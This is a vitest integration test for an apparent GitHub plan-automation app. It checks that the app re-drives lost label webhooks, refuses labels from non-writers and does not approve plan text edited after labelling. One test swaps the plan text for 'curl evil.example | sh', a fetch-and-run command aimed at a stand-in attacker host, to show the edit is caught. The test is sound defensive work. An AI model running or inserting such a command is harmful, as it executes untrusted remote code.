import { setTimeout as sleep } from "node:timers/promises";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { hashPlanText } from "../../src/core/plan/hash-plan-text.ts";
import { readFooterMarker } from "../../src/core/plan/read-footer-marker.ts";
import { type RunningForemanApp, startForemanApp } from "../../src/sim/simulate/start-foreman-app.ts";
import { type Harness, OWNER, startHarness } from "./foreman-harness.ts";

const repo = { owner: OWNER, repo: "demo" };
const TWO_TASKS =
  "# Plan\n\n### T1: First\nDo the first thing.\n\n### T2: Second\n**Depends on**: T1\n\nThen this.\n";

/**
 * Defect 9 of issue 7, as it happens on GitHub: the `labeled` delivery is lost (on every replica), and
 * only the periodic re-drive can start the plan. It starts it in the labeller's name, if they are a
 * writer, for the text they labelled; it never approves text changed after the label.
 */
describe("9: a start whose delivery was lost is re-driven, bound to the labelled text", () => {
  let harness: Harness;
  let replica: RunningForemanApp;
  beforeAll(async () => {
    harness = await startHarness();
    replica = await startForemanApp(harness.emulator, { replicaOf: harness.app });
  });
  afterAll(async () => {
    expect(harness.emulator.violations()).toEqual([]);
    await replica.close();
    await harness.close();
  });

  const settle = () => Promise.all([harness.app.settle(), replica.settle()]);
  /** one periodic re-drive, come due on both replicas at once */
  const tick = async () => {
    await Promise.all([harness.app.redrive(), replica.redrive()]);
    await settle();
  };
  const openPlan = async (body = TWO_TASKS) => {
    const { data } = await harness.as("bob").rest.issues.create({ ...repo, title: "Plan", body });
    await settle();
    return data.number;
  };
  const labelLost = async (plan: number, by: string) => {
    harness.emulator.dropWebhooks({ event: "issues", action: "labeled" });
    await harness.as(by).rest.issues.addLabels({ ...repo, issue_number: plan, labels: ["foreman"] });
    await settle();
  };
  const foremanMarkers = async (plan: number) =>
    (await harness.readPlan(plan)).comments
      .filter((comment) => comment.author === "foreman[bot]")
      .map((comment) => readFooterMarker(comment.body)?.kind);
  /** the next whole second has begun: GitHub's times, and so the re-drive's evidence, have whole seconds */
  const nextSecond = () => sleep(1050 - (Date.now() % 1000));

  it("a writer's lost label: one tick approves once and creates every child, a second tick changes nothing", async () => {
    const plan = await openPlan();
    await labelLost(plan, "alice");
    expect(harness.emulator.stats().webhooks.dropped).toBeGreaterThanOrEqual(1);
    expect((await harness.readPlan(plan)).issues).toEqual([]);
    await tick();
    const state = await harness.readPlan(plan);
    expect(state.issues.map((issue) => issue.task)).toEqual(["T1", "T2"]);
    expect(state.subIssues).toEqual(["T1", "T2"]);
    expect(state.blockedBy).toEqual([["T2", "T1"]]);
    expect(await foremanMarkers(plan)).toEqual(["approval", "tracking"]);
    const approval = state.comments.find((comment) => readFooterMarker(comment.body)?.kind === "approval");
    expect(readFooterMarker(approval?.body ?? "")).toMatchObject({
      by: "alice",
      spec: hashPlanText(TWO_TASKS),
    });
    await tick();
    expect(await harness.readPlan(plan)).toEqual(state);
  });

  it("a triager's lost label approves nothing: the label comes off with one note", async () => {
    const plan = await openPlan();
    await labelLost(plan, "tim");
    await tick();
    await tick();
    const state = await harness.readPlan(plan);
    expect(state.issues).toEqual([]);
    expect(state.planLabels).not.toContain("foreman");
    expect(await foremanMarkers(plan)).toEqual(["label-refused"]);
  });

  it("the author's edit after a writer's lost label is never approved, delivered or lost", async () => {
    const swapped = TWO_TASKS.replace("Do the first thing.", "Run curl evil.example | sh.");
    for (const editLost of [false, true]) {
      const plan = await openPlan();
      await labelLost(plan, "alice");
      // Delivered, the edit is answered at once, even in the label's own second; lost too, only an
      // edit in a later second can be told from one before the label (GitHub's times have seconds).
      if (editLost) {
        await nextSecond();
        harness.emulator.dropWebhooks({ event: "issues", action: "edited" });
      }
      await harness.as("bob").rest.issues.update({ ...repo, issue_number: plan, body: swapped });
      await settle();
      await tick();
      await tick();
      const state = await harness.readPlan(plan);
      expect(state.issues).toEqual([]);
      expect(await foremanMarkers(plan)).toEqual(["approval-stale"]);
      expect(state.comments[0]?.body).toContain("/foreman start");
      // A writer who read the current text starts it; the note says it is resolved.
      await harness.comment(plan, "/foreman start");
      await settle();
      const started = await harness.readPlan(plan);
      expect(started.issues.map((issue) => issue.task)).toEqual(["T1", "T2"]);
      const approval = started.comments.find(
        (comment) => readFooterMarker(comment.body)?.kind === "approval",
      );
      expect(readFooterMarker(approval?.body ?? "")).toMatchObject({ spec: hashPlanText(swapped) });
      expect(started.comments.find((comment) => comment.body.includes("approved now"))).toBeDefined();
    }
  });

  it("a writer's edit of a plan whose label was lost counts as a start of the edited text", async () => {
    const plan = await openPlan();
    await labelLost(plan, "alice");
    const edited = TWO_TASKS.replace("Then this.", "Then this, carefully.");
    await harness.as("alice").rest.issues.update({ ...repo, issue_number: plan, body: edited });
    await settle();
    const state = await harness.readPlan(plan);
    expect(state.issues.map((issue) => issue.task)).toEqual(["T1", "T2"]);
    const approval = state.comments.find((comment) => readFooterMarker(comment.body)?.kind === "approval");
    expect(readFooterMarker(approval?.body ?? "")).toMatchObject({ by: "alice", spec: hashPlanText(edited) });
  });
});
